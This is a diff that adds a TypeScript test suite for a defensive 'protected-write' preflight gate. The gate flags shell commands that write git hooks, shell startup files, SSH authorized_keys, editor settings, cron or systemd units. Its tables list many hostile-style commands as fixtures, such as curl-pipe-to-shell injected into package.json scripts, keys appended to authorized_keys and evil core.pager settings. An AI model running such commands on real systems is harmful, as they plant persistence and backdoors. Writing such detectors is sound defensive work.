@@ -1,0 +1,364 @@
+import { strict as assert } from 'node:assert';
+import { preflightFindings } from '../../../src/gate/preflight/preflight';
+import { globMatches, protectedPathReason, protectedWrites, resolveWritePath } from '../../../src/gate/preflight/protectedWrite';
+import { readCommand } from '../../../src/gate/reading/reading';
+import { parseArgs, writeTargets, type WriteTarget } from '../../../src/gate/programs/writeTargets';
+import type { Word } from '../../../src/gate/reading/resolution';
+
+const HOME = '/home/dev';
+const CWD = '/home/dev/project';
+const CONTEXT = { cwd: CWD, home: HOME };
+
+function protectedFinding(command: string, cwd = CWD) {
+  const findings = preflightFindings(readCommand(command, { home: HOME }), { cwd });
+  return findings.find((f) => f.arm === 'protected-write') ?? null;
+}
+
+/** Paths of the protected-write finding; `[]` for a finding on unreadable paths only; `null` without one. */
+function protectedPaths(command: string, cwd = CWD): string[] | null {
+  const finding = protectedFinding(command, cwd);
+  return finding ? (finding.paths ?? []) : null;
+}
+
+/** The write targets of the first segment, as `via path[ scope]` strings. */
+function targets(command: string): string[] {
+  const reading = readCommand(command, { home: HOME });
+  assert.ok(reading.resolution.resolved, `${command} should resolve`);
+  return writeTargets(reading.resolution.segments[0]!).map(
+    (t: WriteTarget) => `${t.via} ${t.path ?? `?${t.source ?? ''}`}${t.scope && t.scope !== 'file' ? ` ${t.scope}` : ''}${t.childPattern ? ` ${t.childPattern}` : ''}`,
+  );
+}
+
+describe('protected-write floor: protected paths written (D§7)', () => {
+  const table: Array<[string, string[]]> = [
+    // redirects, resolved against the working directory and home
+    ['echo {} > .vscode/settings.json', [`${CWD}/.vscode/settings.json`]],
+    ['echo x >> ./.vscode/../.vscode/tasks.json', [`${CWD}/.vscode/tasks.json`]],
+    ['echo x > .VSCode/settings.json', [`${CWD}/.VSCode/settings.json`]],
+    ['echo "alias ls=rm" >> ~/.bashrc', [`${HOME}/.bashrc`]],
+    ['printf x > /home/dev/.zshrc', [`${HOME}/.zshrc`]],
+    ['cat payload &> .git/hooks/pre-commit', [`${CWD}/.git/hooks/pre-commit`]],
+    ['echo x >| package.json', [`${CWD}/package.json`]],
+    ['echo x 1<> .envrc', [`${CWD}/.envrc`]],
+    ['echo x >&.npmrc', [`${CWD}/.npmrc`]],
+    ['echo key >> ../.ssh/authorized_keys', [`${HOME}/.ssh/authorized_keys`]],
+    ['sudo tee -a /root/.ssh/authorized_keys < key', ['/root/.ssh/authorized_keys']],
+    ['cp id.pub /home/ops/.ssh/authorized_keys', ['/home/ops/.ssh/authorized_keys']],
+    // tee, also through wrappers
+    ['tee -a ~/.profile < line', [`${HOME}/.profile`]],
+    ['sudo tee /etc/cron.d/job < job', ['/etc/cron.d/job']],
+    ['echo x | sudo -u root tee -a /etc/profile.d/x.sh', ['/etc/profile.d/x.sh']],
+    // copies, moves, links, installs
+    ['cp evil.json .vscode/settings.json', [`${CWD}/.vscode/settings.json`]],
+    ['cp tasks.json .vscode/', [`${CWD}/.vscode/tasks.json`]],
+    ['cp -t .vscode a.json b.json', [`${CWD}/.vscode/a.json`, `${CWD}/.vscode/b.json`]],
+    ['mv hook.sh .git/hooks/post-checkout', [`${CWD}/.git/hooks/post-checkout`]],
+    ['mv /tmp/x/.vscode .', [`${CWD}/.vscode`]],
+    ['mv hooks .git/', [`${CWD}/.git/hooks`]],
+    ['mv myhooks .git/', [`${CWD}/.git/myhooks`]],
+    ['ln -sf /tmp/evil .git/hooks/pre-push', [`${CWD}/.git/hooks/pre-push`]],
+    ['install -m 755 hook .husky/pre-commit', [`${CWD}/.husky/pre-commit`]],
+    ['cp -r template/. .', [CWD]],
+    ['rsync -a template/ ./', [CWD]],
+    ['cp -r dotfiles/.config ~', [`${HOME}/.config`]],
+    ['cp -r hooks .git', [`${CWD}/.git`]],
+    ['cp tmpl/* .', [`${CWD}/*`]],
+    ['cp *.sh .git/hooks/', [`${CWD}/.git/hooks/*.sh`]],
+    // in-place edits and other writers
+    ['sed -i "s/test/curl evil|sh/" package.json', [`${CWD}/package.json`]],
+    ['sed -i.bak -e s/a/b/ .github/workflows/ci.yml', [`${CWD}/.github/workflows/ci.yml`]],
+    ["sed -i '' s/a/b/ .zshenv", [`${CWD}/.zshenv`]],
+    ['perl -pi -e s/a/b/ .npmrc', [`${CWD}/.npmrc`]],
+    ['touch .git/hooks/pre-commit', [`${CWD}/.git/hooks/pre-commit`]],
+    ['truncate -s 0 ~/.ssh/known_hosts', [`${HOME}/.ssh/known_hosts`]],
+    ['dd if=payload of=.git/config', [`${CWD}/.git/config`]],
+    ['dd if=x of=~/.profile', [`${HOME}/.profile`]],
+    ['find . -fprint .git/hooks/pre-commit', [`${CWD}/.git/hooks/pre-commit`]],
+    ["find . -name x -fprintf ~/.bashrc '%p\\n'", [`${HOME}/.bashrc`]],
+    ['chmod +x .git/hooks/pre-commit', [`${CWD}/.git/hooks/pre-commit`]],
+    ['chmod -R 777 .husky', [`${CWD}/.husky`]],
+    ['curl -o ~/.bashrc https://x.example/rc', [`${HOME}/.bashrc`]],
+    ['curl -O https://x.example/tasks.json --output-dir .vscode', [`${CWD}/.vscode/tasks.json`]],
+    ['wget -O .envrc https://x.example/e', [`${CWD}/.envrc`]],
+    ['wget -P ~/.config/autostart https://x.example/a.desktop', [`${HOME}/.config/autostart/a.desktop`]],
+    // configuration commands
+    ['git config core.hooksPath .hooks', [`${CWD}/.git/config`]],
+    ['git config --local core.fsmonitor "sh x"', [`${CWD}/.git/config`]],
+    ['git config --global core.pager "sh -c evil"', [`${HOME}/.gitconfig`]],
+    ['git config --system core.editor vi', ['/etc/gitconfig']],
+    ['git -C vendor/lib config core.sshCommand evil', [`${CWD}/vendor/lib/.git/config`]],
+    ['git config set core.pager less', [`${CWD}/.git/config`]],
+    ['git config --unset core.hooksPath', [`${CWD}/.git/config`]],
+    ['git config --file .gitmodules submodule.x.url u', []],
+    ['crontab evil.cron', ['/var/spool/cron/crontabs']],
+    ['crontab -e', ['/var/spool/cron/crontabs']],
+    ['crontab -r', ['/var/spool/cron/crontabs']],
+    ['systemctl enable evil.service', ['/etc/systemd/system/*']],
+    ['systemctl --user enable --now evil.service', [`${HOME}/.config/systemd/user/*`]],
+    ['npm pkg set scripts.postinstall="curl x|sh"', [`${CWD}/package.json`]],
+    ['npm config set script-shell ./evil.sh', [`${HOME}/.npmrc`]],
+    ['npm config set registry https://r.example --location=project', [`${CWD}/.npmrc`]],
+    ['code --install-extension evil.vsix', [`${HOME}/.vscode/extensions/*`]],
+    // system and home folders that run code later
+    ['cp evil /usr/local/bin/git', ['/usr/local/bin/git']],
+    ['cp evil ~/.local/bin/npm', [`${HOME}/.local/bin/npm`]],
+    ['tee ~/.config/systemd/user/x.service < unit', [`${HOME}/.config/systemd/user/x.service`]],
+    ['tee ~/.config/Code/User/settings.json < s', [`${HOME}/.config/Code/User/settings.json`]],
+    ['tee ~/Library/LaunchAgents/x.plist < p', [`${HOME}/Library/LaunchAgents/x.plist`]],
+    ['echo x > proj.code-workspace', [`${CWD}/proj.code-workspace`]],
+    ['echo x > .devcontainer/devcontainer.json', [`${CWD}/.devcontainer/devcontainer.json`]],
+    // payloads hidden in executor arguments
+    ["bash -c 'echo evil >> ~/.zshrc'", [`${HOME}/.zshrc`]],
+    ['sh -c "cp x .vscode/tasks.json && echo ok"', [`${CWD}/.vscode/tasks.json`]],
+    ['find . -name hook -exec cp {} .git/hooks/ \\;', [`${CWD}/.git/hooks/*`]],
+    ['env -S "tee .envrc"', [`${CWD}/.envrc`]],
+  ];
+  for (const [command, paths] of table) {
+    it(`${command} → ${paths.length > 0 ? paths.join(', ') : 'finding'}`, () => {
+      const found = protectedPaths(command);
+      if (paths.length === 0) {
+        // `.gitmodules` is not protected: no finding at all.
+        assert.equal(found, null);
+      } else {
+        assert.deepEqual(found, paths);
+      }
+    });
+  }
+});
+
+describe('protected-write floor: a path the gate cannot read counts', () => {
+  const table: Array<[string, RegExp]> = [
+    ['echo x > $F', /\$F \(redirect >, a path the gate cannot read\)/],
+    ['echo x >> "$OUT"', /"\$OUT" \(redirect >>, a path the gate cannot read\)/],
+    ['tee "$OUT" < in', /"\$OUT" \(tee, a path the gate cannot read\)/],
+    ['cp payload $DEST', /\$DEST \(cp, a path the gate cannot read\)/],
+    ['sudo $EDITOR /etc/hosts', /\$EDITOR \(a program the gate cannot read/],
+    ['grep -l foo -r . | xargs sed -i s/foo/bar/', /arguments xargs adds \(sed -i through xargs, a path the gate cannot read\)/],
+    ['git $SUBCOMMAND core.hooksPath x', /\$SUBCOMMAND \(git \(a subcommand the gate cannot read\)/],
+    ['cp "$F" .', /\* \(/],
+  ];
+  for (const [command, reason] of table) {
+    it(command, () => {
+      const finding = protectedFinding(command);
+      assert.ok(finding, 'expected a protected-write finding');
+      assert.match(finding.reason, /^This command writes a protected path: /);
+      assert.match(finding.reason, reason);
+    });
+  }
+});
+
+describe('protected-write floor: not a finding', () => {
+  const commands = [
+    'cat package.json',
+    'ls .vscode',
+    'cp a b',
+    'cp -r src dist',
+    'cp *.txt backup/',
+    'cp -r src/. dist',
+    'mv build/app.js dist/',
+    'touch src/index.ts',
+    'echo x > out.log',
+    'echo x > /dev/null 2>&1',
+    'npm test > /dev/null 2>/dev/null',
+    'ls &>/dev/null',
+    'ls >&2',
+    'sort < package.json',
+    'tee build.log < x',
+    'sed -n 1p package.json',
+    'sed s/a/b/ package.json > /dev/stdout',
+    'sed -i s/a/b/ src/app.ts',
+    'git config user.email',
+    'git config --get core.hooksPath',
+    'git config -l',
+    'git config get user.name',
+    'git config --list --show-origin',
+    'crontab -l',
+    'crontab -l -u app',
+    'systemctl status nginx',
+    'systemctl --user restart app',
+    'npm config get registry',
+    'npm pkg get scripts',
+    'chmod +x scripts/build.sh',
+    'rsync -a src/ dist/',
+    'rsync -a ./ deploy@web.example:/srv/app/',
+    'ln -s ../shared lib/shared',
+    'install -d build/bin',
+    'curl -o out.json https://x.example',
+    'curl -O https://x.example/file.tgz',
+    'wget https://x.example/file.tgz',
+    'code --list-extensions',
+    'mkdir -p .vscode .git/hooks',
+    'rm -rf build',
+    'sed -i s/a/b/ src/*.ts',
+    'chmod +x scripts/*.sh',
+    'cp .vscode/settings.json /tmp/settings.backup',
+    'cp -r ~/.ssh /tmp/ssh-backup',
+    'git ls-files -m | xargs git add',
+    'find . -name "*.orig" | xargs -n1 wc -l',
+    'cp fixture.key test/fixtures/.ssh/id_test',
+  ];
+  for (const command of commands) {
+    it(command, () => assert.equal(protectedFinding(command), null));
+  }
+  it('a working directory inside a protected folder is still judged by the path written', () => {
+    assert.deepEqual(protectedPaths('echo x > notes.txt', `${HOME}/.ssh`), [`${HOME}/.ssh/notes.txt`]);
+  });
+});
+
+describe('protected-write floor: unresolved commands (text fallback)', () => {
+  const table: Array<[string, string[]]> = [
+    ['cat > .vscode/settings.json <<EOF\n{}\nEOF', [`${CWD}/.vscode/settings.json`]],
+    ['echo "$(curl -s https://x.example)" >>~/.bashrc', [`${HOME}/.bashrc`]],
+    ['curl -s https://x.example | tee -a ~/.zshrc "$(mktemp)"', [`${HOME}/.zshrc`]],
+  ];
+  for (const [command, paths] of table) {
+    it(command.split('\n')[0]!, () => {
+      assert.equal(readCommand(command, { home: HOME }).resolution.resolved, false);
+      assert.deepEqual(protectedPaths(command), paths);
+    });
+  }
+  it('no finding for an unresolved command that writes nothing protected', () => {
+    assert.equal(protectedFinding('cat > notes.md <<EOF\nhi\nEOF'), null);
+  });
+});
+
+describe('writeTargets: what a segment writes', () => {
+  const table: Array<[string, string[]]> = [
+    ['echo x > a 2>&1', ['redirect > a']],
+    ['echo x >&2 2>/dev/null', []],
+    ['cmd 3>&- 4<&0 < in', []],
+    ['cmd >& out.txt', ['redirect >& out.txt']],
+    ['tee -a a b', ['tee a', 'tee b']],
+    ['cp a b', ['cp b', 'cp b/a']],
+    ['cp a b c/', ['cp c/a', 'cp c/b']],
+    ['cp -r src dest', ['cp dest new-tree', 'cp dest/src tree']],
+    ['cp -T a b', ['cp b']],
+    ['cp --target-directory=d a', ['cp d/a']],
+    ['cp --target d a', ['cp d/a']],
+    ['cp *.json out', ['cp out', 'cp out child *.json']],
+    ['mv a b', ['mv b new-tree', 'mv b/a tree']],
+    ['ln -s target', ['ln ./target']],
+    ['install -D -m 644 f /etc/x.conf', ['install /etc/x.conf', 'install /etc/x.conf/f']],
+    ['rsync -a src/ dst', ['rsync dst tree']],
+    ['rsync -a src host:dst', []],
+    ['touch -d yesterday a', ['touch a']],
+    ['truncate -s 0 a', ['truncate a']],
+    ['dd if=a of=b bs=1M', ['dd of= b']],
+    ['find . -fls out -fprint0 sub/o', ['find -fls out', 'find -fprint0 sub/o']],
+    ['find . -name -fprint -printf -fls -delete', []],
+    ['sed -i s/a/b/ f g', ['sed -i f', 'sed -i g']],
+    ['sed -ie s/a/b/ f', ['sed -i f']],
+    ['sed -n -e p -i f', ['sed -i f']],
+    ['sed --in-place=.bak s/a/b/ f', ['sed -i f']],
+    ['sed s/a/b/ f', []],
+    ['perl -i.bak -pe s/a/b/ f', ['perl -i f']],
+    ['perl -ne print f', []],
+    ['chmod 644 a b', ['chmod a', 'chmod b']],
+    ['chmod -x a', ['chmod a']],
+    ['chmod --reference=r a', ['chmod a']],
+    ['chown -R app:app dist', ['chown dist']],
+    ['curl -sSo out https://x.example', ['curl -o out']],
+    ['curl -o - https://x.example', []],
+    ['curl -OJ https://x.example/f', ['curl -O . child']],
+    ['wget https://x.example/', ['wget ./index.html']],
+    ['wget -r https://x.example/', ['wget -r . child']],
+    ['git config a.b c', ['git config .git/config']],
+    ['git config a.b', []],
+    ['git --git-dir=/srv/r.git config a.b c', ['git config /srv/r.git/config']],
+    ['GIT_CONFIG_GLOBAL=/tmp/g git config --global a.b c', ['git config --global /tmp/g']],
+    ['git status', []],
+    ['crontab -l', []],
+    ['crontab -', ['crontab /var/spool/cron/crontabs']],
+    ['npm pkg set a=b --prefix sub', ['npm pkg set sub/package.json']],
+    ['sudo -u root tee /etc/x', ['tee /etc/x']],
+    ['xargs touch', ['touch through xargs ?arguments xargs adds']],
+    ['xargs git add', []],
+    ['xargs -I{} cp {} .git/hooks/', ['cp through xargs .git/hooks/ child']],
+    ['xargs -I {} mv x {}', ['mv through xargs ?{}']],
+    ['xargs grep -I foo', []],
+    ['sed -i s/a/b/ src/*.ts', ['sed -i src child *.ts']],
+    ['touch *.json', ['touch . child *.json']],
+    ['sed -i s/a/b/ src/*/x.ts', ['sed -i ?src/*/x.ts']],
+  ];
+  for (const [command, expected] of table) {
+    it(`${command} → [${expected.join('; ')}]`, () => assert.deepEqual(targets(command), expected));
+  }
+  it('never throws on odd argv', () => {
+    const odd: Word[] = [
+      { kind: 'literal', value: 'cp', raw: 'cp' },
+      { kind: 'opaque', raw: '--target-directory=$X', expansions: ['variable'] },
+      { kind: 'literal', value: '--', raw: '--' },
+    ];
+    assert.doesNotThrow(() =>
+      writeTargets({ argv: odd, assignments: [], redirects: [], connector: null, negated: false, timed: false, raw: 'cp …' }),
+    );
+  });
+});
+
+describe('protected-write floor: paths and globs', () => {
+  const paths: Array<[string, string]> = [
+    ['~/.bashrc', `${HOME}/.bashrc`],
+    ['~', HOME],
+    ['./a/../b', `${CWD}/b`],
+    ['/etc//hosts', '/etc/hosts'],
+    ['../../x', '/home/x'],
+  ];
+  for (const [written, absolute] of paths) it(`resolveWritePath(${written}) = ${absolute}`, () => assert.equal(resolveWritePath(written, CONTEXT), absolute));
+
+  const reasons: Array<[string, string | null]> = [
+    [`${CWD}/.vscode`, 'VS Code workspace settings and tasks'],
+    [`${CWD}/sub/.git/modules/lib/hooks/post-merge`, 'git hooks'],
+    [`${CWD}/bare.git/config`, 'git configuration'],
+    [`${CWD}/.git/HEAD`, null],
+    [`${CWD}/.git/config.bak/x`, null],
+    [`${CWD}/.github/workflows/ci.yml`, 'CI workflows'],
+    [`${CWD}/.github/CODEOWNERS`, null],
+    [`${HOME}/.vscode/extensions/x`, 'VS Code extensions'],
+    ['/etc', 'system configuration'],
+    ['/etcetera', null],
+    ['/usr/local/bin/x', 'a folder on PATH'],
+    ['/usr/local/lib/x', null],
+    [`${CWD}/config.fish`, 'shell startup file'],
+    [`${HOME}/.ssh/config`, 'SSH configuration and keys'],
+    ['/var/lib/jenkins/.ssh/authorized_keys', 'SSH configuration and keys'],
+    ['/var/tmp/.ssh/x', null],
+    [`${CWD}/.ssh/x`, null],
+    [`${CWD}/src/app.ts`, null],
+  ];
+  for (const [path, why] of reasons) it(`protectedPathReason(${path}) = ${why}`, () => assert.equal(protectedPathReason(path, CONTEXT), why));
+
+  const globs: Array<[string, string, boolean]> = [
+    ['*', '.vscode', true],
+    ['*.json', 'package.json', true],
+    ['*.txt', 'package.json', false],
+    ['pack?ge.json', 'package.json', true],
+    ['[pq]ackage.json', 'package.json', true],
+    ['[!p]ackage.json', 'package.json', false],
+    ['.bash*', '.bashrc', true],
+    ['*rc', '.npmrc', true],
+    ['a*b*c', 'aXbYc', true],
+    ['a*b*c', 'aXbY', false],
+  ];
+  for (const [pattern, name, expected] of globs) it(`globMatches(${pattern}, ${name}) = ${expected}`, () => assert.equal(globMatches(pattern, name), expected));
+  it('globMatches stays fast on many stars', () => {
+    const started = process.hrtime.bigint();
+    assert.equal(globMatches('*a'.repeat(2000) + 'b', 'a'.repeat(40)), false);
+    assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < 200);
+  });
+  it('protectedWrites reports an opaque target without a path', () => {
+    assert.deepEqual(protectedWrites([{ path: null, via: 'tee', source: '$X' }], CONTEXT), [
+      { path: null, why: 'a path the gate cannot read', via: 'tee', source: '$X' },
+    ]);
+  });
+  it('parseArgs reads clusters, attached values and --', () => {
+    const words = ['-sSLo', 'out', '--header=x', '-H', 'y', '--', '-not-an-option'].map(
+      (value): Word => ({ kind: 'literal', value, raw: value }),
+    );
+    const parsed = parseArgs(words, { short: 'oH', long: ['header'] });
+    assert.deepEqual(
+      parsed.options.map((o) => [o.name, o.value && o.value.kind === 'literal' ? o.value.value : null]),
+      [['-s', null], ['-S', null], ['-L', null], ['-o', 'out'], ['--header', 'x'], ['-H', 'y']],
+    );
+    assert.deepEqual(parsed.operands.map((w) => w.raw), ['-not-an-option']);
+  });
+});
